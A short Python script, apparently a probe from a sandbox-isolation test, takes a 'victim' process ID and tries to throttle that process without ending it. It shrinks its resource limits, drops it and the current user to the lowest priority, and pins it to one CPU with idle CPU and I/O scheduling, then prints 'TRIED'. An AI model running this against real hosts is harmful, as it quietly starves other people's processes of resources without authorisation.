"""Bend a process of the host without ending it: its limits, its priority, its processors, its place in the queue."""

import contextlib
import ctypes
import json
import os
import resource
import sys

libc = ctypes.CDLL(None, use_errno=True)
victim = json.load(sys.stdin)["victim"]
for kind in (resource.RLIMIT_NOFILE, resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_FSIZE):
    with contextlib.suppress(OSError, ValueError):
        resource.prlimit(victim, kind, (1000, 1000))
for which, who in ((os.PRIO_PROCESS, victim), (os.PRIO_PGRP, victim), (os.PRIO_USER, 0)):
    with contextlib.suppress(OSError):
        os.setpriority(which, who, 19)
with contextlib.suppress(OSError):
    os.sched_setscheduler(victim, os.SCHED_IDLE, os.sched_param(0))
with contextlib.suppress(OSError):
    os.sched_setaffinity(victim, {0})
libc.ioprio_set(1, victim, 3 << 13) if hasattr(libc, "ioprio_set") else libc.syscall(
    251 if os.uname().machine == "x86_64" else 30, 1, victim, 3 << 13
)
print("TRIED")
